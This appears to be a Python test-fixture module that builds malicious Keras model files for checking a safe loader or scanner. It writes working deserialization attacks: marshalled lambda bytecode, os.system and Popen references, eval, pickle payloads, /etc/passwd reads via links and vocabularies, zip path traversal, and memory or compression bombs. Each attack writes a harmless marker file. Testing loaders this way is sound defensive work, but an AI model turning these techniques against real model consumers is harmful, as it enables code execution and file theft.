"""Model files made to do harm, each written by a function of its name: `ATTACKS[name](path, marker)`.

A file that gets its way writes `marker`, eats memory or time, or reads what it should not.
"""

import base64
import io
import json
import marshal
import pickle
import zipfile

import h5py
import numpy as np

VERSION = "3.15.1"


def dense(name="dense", units=3, **config):
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": name, "units": units, "activation": "linear", **config},
        "registered_name": None,
    }


def input_layer(*shape, name="input", dtype="float32"):
    return {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, *shape], "dtype": dtype, "name": name},
        "registered_name": None,
    }


def layer(class_name, module="keras.layers", **config):
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": class_name.lower(), **config},
        "registered_name": None,
    }


def sequential(*layers):
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "model", "trainable": True, "layers": list(layers)},
        "registered_name": None,
    }


def old_sequential(*layers):
    """In the dialect of Keras 2: by class name alone."""
    plain = [{"class_name": entry["class_name"], "config": entry["config"]} for entry in layers]
    return {"class_name": "Sequential", "config": {"name": "model", "layers": plain}}


WEIGHTS = {"dense": {"dense/kernel": np.ones((4, 3), "float32"), "dense/bias": np.zeros(3, "float32")}}


def write_h5(path, config, weights=None, version=VERSION):
    """A whole model in the legacy layout; `config` may be text."""
    weights = WEIGHTS if weights is None else weights
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = config if isinstance(config, str | np.void) else json.dumps(config)
        file.attrs["keras_version"], file.attrs["backend"] = version, "tensorflow"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([name.encode() for name in weights])
        group.attrs["keras_version"] = version
        for name, arrays in weights.items():
            inner = group.create_group(name)
            inner.attrs["weight_names"] = np.array([key.encode() for key in arrays])
            for key, value in arrays.items():
                inner[key] = value


def write_keras(path, config, members=(), *, compressed=False):
    """A `.keras` archive with these further members, name -> bytes or (ZipInfo, bytes)."""
    weights = io.BytesIO()
    with h5py.File(weights, "w") as file:
        file["layers/dense/vars/0"] = np.ones((4, 3), "float32")
        file["layers/dense/vars/1"] = np.zeros(3, "float32")
    kind = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", kind) as archive:
        archive.writestr("config.json", config if isinstance(config, str) else json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": VERSION}))
        archive.writestr("model.weights.h5", weights.getvalue())
        for name, content in members:
            archive.writestr(name, content)


def payload(marker):
    """Bytecode that writes the marker, marshalled and in base64 as Keras does."""
    source = f"def harm(x):\n    open({str(marker)!r}, 'w').close()\n    return x\n"
    code = next(item for item in compile(source, "harm", "exec").co_consts if hasattr(item, "co_code"))
    return base64.b64encode(marshal.dumps(code)).decode()


class _Pickled:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return open, (str(self.marker), "w")


# -- stored code ------------------------------------------------------------------------------------------


def lambda_of_keras3(path, marker):
    code = {
        "class_name": "__lambda__",
        "config": {"code": payload(marker), "defaults": None, "closure": None},
    }
    write_h5(path, sequential(input_layer(4), layer("Lambda", function=code), dense()))


def lambda_of_keras2(path, marker):
    code = layer("Lambda", function=[payload(marker), None, None], function_type="lambda")
    write_h5(path, old_sequential(input_layer(4), code, dense()), version="2.2.4")


def lambda_of_keras1(path, marker):
    code = layer("Lambda", function=payload(marker), function_type="lambda", batch_input_shape=[None, 4])
    write_h5(path, {"class_name": "Sequential", "config": [code]}, version="1.2.2")


def lambda_in_a_wrapper(path, marker):
    code = layer("Lambda", function=[payload(marker), None, None], function_type="lambda")
    wrapped = layer("TimeDistributed", layer={"class_name": "Lambda", "config": code["config"]})
    write_h5(path, old_sequential(input_layer(2, 4), wrapped, dense()), version="2.11.0")


def lambda_as_output_shape(path, marker):
    code = layer(
        "Lambda", function="relu", function_type="function", output_shape=[payload(marker), None, None]
    )
    code["config"]["output_shape_type"] = "lambda"
    write_h5(path, old_sequential(input_layer(4), code, dense()), version="2.2.4")


def lambda_as_activation(path, marker):
    code = {
        "class_name": "__lambda__",
        "config": {"code": payload(marker), "defaults": None, "closure": None},
    }
    write_h5(path, sequential(input_layer(4), dense(activation=code)))


def lambda_in_an_archive(path, marker):
    code = {
        "class_name": "__lambda__",
        "config": {"code": payload(marker), "defaults": None, "closure": None},
    }
    write_keras(path, sequential(input_layer(4), layer("Lambda", function=code), dense()))


def operation_that_writes(path, marker):
    operation = {"class_name": "TFOpLambda", "config": {"name": "tfoplambda", "function": "io.write_file"}}
    operation["inbound_nodes"] = [["_CONSTANT_VALUE", -1, str(marker), {"contents": "harm"}]]
    config = {
        "class_name": "Functional",
        "config": {
            "name": "model",
            "layers": [{**operation, "name": "tfoplambda"}],
            "input_layers": [],
            "output_layers": [["tfoplambda", 0, 0]],
        },
    }
    write_h5(path, config, version="2.11.0")


# -- names that point into modules ------------------------------------------------------------------------


def class_of_os(path, marker):
    write_h5(path, sequential(input_layer(4), layer("system", module="os", command=f"touch {marker}")))


def function_of_builtins(path, marker):
    call = {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "eval"}
    write_h5(path, sequential(input_layer(4), dense(activation=call, name=f"open({str(marker)!r}, 'w')")))


def registered_as_another(path, marker):
    entry = {**dense(), "registered_name": "os>system", "config": f"touch {marker}"}
    write_h5(path, sequential(input_layer(4), entry))


def function_that_downloads(path, marker):
    fetch = {"module": "keras.src.utils.file_utils", "class_name": "function", "config": "get_file"}
    arguments = {"fname": str(marker), "origin": "file:///etc/hostname"}
    write_h5(path, sequential(input_layer(4), layer("Lambda", function=fetch, arguments=arguments)))


def class_below_keras(path, marker):
    entry = layer("Popen", module="keras.src.utils.io_utils.subprocess", args=f"touch {marker}")
    write_h5(path, sequential(input_layer(4), entry))


def program_from_a_path(path, marker):
    entry = layer("TFSMLayer", filepath=str(marker.parent), call_endpoint="serve")
    write_h5(path, sequential(input_layer(4), entry))


def vocabulary_of_another_file(path, _):
    entry = layer("StringLookup", vocabulary="/etc/passwd", max_tokens=None, num_oov_indices=1)
    write_h5(path, sequential(input_layer(1, dtype="string"), entry), weights={})


def pickle_as_config(path, marker):
    write_h5(path, np.void(pickle.dumps(_Pickled(marker))))


def pickle_as_initial_value(path, marker):
    text = base64.b64encode(pickle.dumps(_Pickled(marker))).decode()
    value = {"class_name": "__numpy__", "config": {"value": text, "dtype": "object"}}
    write_h5(path, sequential(input_layer(4), dense(), layer("Rescaling", scale=value, offset=0.0)))


# -- more than a model is ---------------------------------------------------------------------------------


def huge_weights(path, _):
    write_h5(path, sequential(input_layer(4), dense(units=10**7), dense("two", units=10**7)))


def huge_weights_of_keras2(path, _):
    config = old_sequential(input_layer(4), dense(units=10**7), dense("two", units=10**7))
    write_h5(path, config, version="2.4.0")


def huge_weights_in_an_archive(path, _):
    write_keras(path, sequential(input_layer(4), dense(units=10**7), dense("two", units=10**7)))


def huge_input(path, _):
    write_h5(path, sequential(input_layer(10**6, 10**6), dense()))


def huge_tensor(path, _):
    write_h5(path, sequential(input_layer(4), dense(), layer("RepeatVector", n=2 * 10**9)))


def huge_picture(path, _):
    entries = (input_layer(8, 8, 4), dense(), layer("UpSampling2D", size=[10**5, 10**5]))
    write_h5(path, sequential(*entries))


def endless_unrolling(path, _):
    entries = (
        input_layer(4),
        dense(),
        layer("RepeatVector", n=10**7),
        layer("SimpleRNN", units=3, unroll=True),
    )
    rnn = {"rnn/kernel": (3, 3), "rnn/recurrent_kernel": (3, 3), "rnn/bias": (3,)}
    arrays = {name: np.ones(shape, "float32") for name, shape in rnn.items()}
    write_h5(path, sequential(*entries), weights=WEIGHTS | {"simplernn": arrays})


def graph_in_a_circle(path, _):
    def tensor(name):
        return {
            "class_name": "__keras_tensor__",
            "config": {"shape": [None, 4], "dtype": "float32", "keras_history": [name, 0, 0]},
        }

    first, second = dense("dense"), dense("second")
    first |= {"name": "dense", "inbound_nodes": [{"args": [tensor("second")], "kwargs": {}}]}
    second |= {"name": "second", "inbound_nodes": [{"args": [tensor("dense")], "kwargs": {}}]}
    config = {"name": "m", "layers": [first, second], "input_layers": [], "output_layers": [["second", 0, 0]]}
    write_h5(path, {"module": "keras.src.models.functional", "class_name": "Functional", "config": config})


def graph_in_a_circle_of_keras2(path, _):
    start = {"name": "in", "batch_input_shape": [None, 4]}
    layers = [{"class_name": "InputLayer", "name": "in", "config": start, "inbound_nodes": []}]
    for name, source in (("dense", "second"), ("second", "dense")):
        config = {"name": name, "units": 3}
        node = [[source, 0, 0, {}], ["in", 0, 0, {}]]
        layers.append({"class_name": "Dense", "name": name, "config": config, "inbound_nodes": [node]})
    ends = {"input_layers": [["in", 0, 0]], "output_layers": [["second", 0, 0]]}
    write_h5(
        path, {"class_name": "Model", "config": {"name": "m", "layers": layers, **ends}}, version="2.2.4"
    )


def deep_config(path, _):
    write_h5(path, '{"class_name": "Sequential", "config": ' + "[" * 100_000 + "]" * 100_000 + "}")


def models_in_models(path, _):
    model = sequential(input_layer(4), dense())
    for _level in range(150):
        model = sequential(input_layer(4), model)
    write_h5(path, model)


def many_values(path, _):
    write_h5(path, '{"class_name": "Sequential", "config": [' + "0," * 3_000_000 + "0]}")


def compressed_zeros(path, _):
    write_h5(path, sequential(input_layer(4), dense()))
    with h5py.File(path, "a") as file:
        file.create_dataset(
            "model_weights/bomb", (2**32,), "f4", chunks=(2**24,), compression="gzip", fillvalue=0
        )
        file["model_weights/bomb"][: 2**24] = 0


def archive_of_zeros(path, _):
    text = '{"a": "' + "0" * (2**28) + '"}'
    write_keras(path, text, compressed=True)


def archive_that_climbs(path, marker):
    write_keras(path, sequential(input_layer(4), dense()), [(f"assets/../../{marker.name}", b"harm")])


def archive_with_a_link(path, _):
    link = zipfile.ZipInfo("assets/link")
    link.external_attr = 0o120777 << 16
    write_keras(path, sequential(input_layer(4), dense()), [(link, b"/etc/passwd")])


# -- places outside of the file ---------------------------------------------------------------------------


def weights_of_another_file(path, _):
    write_h5(path, sequential(input_layer(4), dense()))
    with h5py.File(path, "a") as file:
        del file["model_weights/dense/dense/kernel"]
        file["model_weights/dense/dense/kernel"] = h5py.ExternalLink("/etc/passwd", "/")


def weights_by_a_soft_link(path, _):
    write_h5(path, sequential(input_layer(4), dense()))
    with h5py.File(path, "a") as file:
        file["model_weights/dense/dense/again"] = h5py.SoftLink("/model_weights")


def group_in_itself(path, _):
    write_h5(path, sequential(input_layer(4), dense()))
    with h5py.File(path, "a") as file:
        file["model_weights/dense/again"] = file["model_weights"]


def cut_in_half(path, _):
    write_h5(path, sequential(input_layer(4), dense()))
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


ATTACKS = {
    item.__name__: item
    for item in (
        *(lambda_of_keras3, lambda_of_keras2, lambda_of_keras1, lambda_in_a_wrapper, lambda_as_output_shape),
        *(lambda_as_activation, lambda_in_an_archive, operation_that_writes),
        *(
            class_of_os,
            function_of_builtins,
            registered_as_another,
            function_that_downloads,
            class_below_keras,
        ),
        *(program_from_a_path, vocabulary_of_another_file, pickle_as_config, pickle_as_initial_value),
        *(
            huge_weights,
            huge_weights_of_keras2,
            huge_weights_in_an_archive,
            huge_input,
            huge_tensor,
            huge_picture,
        ),
        *(
            endless_unrolling,
            graph_in_a_circle,
            graph_in_a_circle_of_keras2,
            deep_config,
            models_in_models,
            many_values,
            compressed_zeros,
        ),
        *(archive_of_zeros, archive_that_climbs, archive_with_a_link),
        *(weights_of_another_file, weights_by_a_soft_link, group_in_itself, cut_in_half),
    )
}
